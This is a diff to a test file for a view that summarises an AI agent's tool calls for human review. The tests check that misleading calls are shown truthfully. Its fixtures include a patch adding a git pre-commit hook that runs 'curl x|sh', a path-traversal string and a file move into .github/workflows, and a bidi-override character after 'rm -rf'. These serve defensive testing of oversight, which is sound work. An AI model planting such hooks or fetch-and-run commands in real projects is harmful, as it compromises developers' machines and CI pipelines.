@@ -48,7 +48,7 @@ describe("issue #31 §3: the batch view says which file, and shows a call's exac
     expect(html).toContain('<code class="call-summary">write_file src/a.ts (120 lines)</code>');
     // The model's text as a person must see it: the bidi override shown, markup escaped.
     expect(html).toContain('<code class="call-summary">run_command rm -rf build\\u202e</code>');
-    expect(html).toContain('<code class="call-summary">apply_patch b.ts, &lt;c&gt;.ts</code>');
+    expect(html).toContain('<code class="call-summary">apply_patch update b.ts, add &lt;c&gt;.ts</code>');
     expect(html).toContain('<code class="call-summary">edit_file (arguments are not valid JSON)</code>');
     const details = [
       ...html.matchAll(
@@ -64,11 +64,29 @@ describe("issue #31 §3: the batch view says which file, and shows a call's exac
     expect(details[0]).toContain('line 119');
   });
 
-  it('a long summary is cut and says where to see it whole', () => {
-    const long = 'x'.repeat(500);
-    expect(callSummary('run_command', { command: long })).toBe(
-      `run_command ${long.slice(0, 160 - 'run_command '.length)}… (cut: see the arguments)`,
+  it('a long summary is cut in the middle, keeps its end in view, and says where to see it whole', () => {
+    const long = `${'x'.repeat(250)}/../../.github/workflows/x.yml`;
+    const line = callSummary('write_file', { path: `docs/notes.md${long}`, content: '' });
+    expect(line).toMatch(
+      /^write_file docs\/notes\.mdx+ … x+\/\.\.\/\.\.\/\.github\/workflows\/x\.yml \(0 lines\) \(cut: see the arguments\)$/,
     );
+    expect(line.length).toBeLessThan(220);
+  });
+
+  it("apply_patch's summary is what the tool's own parser reads: moves, deletions, indented headers; a content line is no file (hostile review F3)", () => {
+    const envelope =
+      '*** Begin Patch\n  *** Add File: .husky/pre-commit\n+curl x|sh\n*** Add File: docs/a.md\n+++ b/docs/b.md\n*** Update File: README.md\n*** Move to: .github/workflows/ci.yml\n@@\n-hello\n+on: push\n*** End Patch';
+    expect(callSummary('apply_patch', { patch: envelope })).toBe(
+      'apply_patch add .husky/pre-commit, add docs/a.md, update README.md → .github/workflows/ci.yml',
+    );
+    const deletion = '--- a/src/auth.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n';
+    expect(callSummary('apply_patch', { patch: deletion })).toBe('apply_patch delete src/auth.ts');
+    expect(callSummary('apply_patch', { patch: 'nonsense' })).toBe(
+      'apply_patch (a patch that does not parse: see the arguments)',
+    );
+  });
+
+  it('other tools: their most telling argument', () => {
     expect(callSummary('grep', { pattern: 'TODO', path: 'src' })).toBe('grep TODO in src');
     expect(callSummary('vault_copyto', { source: 'k/a', destination: 'b' })).toBe('vault_copyto k/a → b');
   });
